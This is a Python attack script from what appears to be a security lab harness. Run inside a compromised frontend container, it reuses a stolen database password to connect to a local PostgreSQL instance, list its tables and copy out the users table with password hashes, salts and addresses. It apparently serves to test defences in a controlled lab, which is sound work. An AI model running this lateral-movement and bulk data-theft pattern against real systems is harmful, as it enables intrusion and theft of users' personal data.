#!/usr/bin/env python3
"""Attack 5 — lateral movement: run INSIDE frontend's cgroup (scripts/lab exec frontend …).

From a foothold in the frontend (which has no database access and never talks to PostgreSQL), the attacker uses
database credentials stolen elsewhere (lab/run/secrets/db-password, the same password attack 3's shell found in
catalogue's environment) and connects straight to PostgreSQL with psql: lists the tables and copies out the users
table. Succeeds when the users came out.

  scripts/lab exec frontend lab/attacks/5-lateral-movement.py
"""

import subprocess
import time

from _common import ENV, RUN, Attack, log


def psql(dsn, sql):
    return subprocess.run(["psql", dsn, "-qAtX", "-c", sql], capture_output=True, text=True, timeout=60)


def main():
    with Attack("lateral-movement") as atk:
        password = (RUN / "secrets" / "db-password").read_text().strip()
        dsn = f"host=127.0.0.1 port={ENV['LAB_PG_PORT']} dbname=shop user=shop password={password}"
        tables = psql(dsn, "SELECT string_agg(tablename, ',') FROM pg_tables WHERE schemaname = 'public'")
        log(f"tables: {tables.stdout.strip()} {tables.stderr.strip()[:100]}")
        time.sleep(1.5)
        dump = psql(dsn, "COPY (SELECT id, username, email, password_hash, salt, address FROM users) TO STDOUT")
        lines = dump.stdout.splitlines()
        log(f"users copied out: {len(lines)} rows ({len(dump.stdout)} bytes) {dump.stderr.strip()[:100]}")
        atk.detail = {"tables": tables.stdout.strip(), "rows": len(lines), "bytes": len(dump.stdout)}
        atk.ok = len(lines) >= 1000


if __name__ == "__main__":
    main()
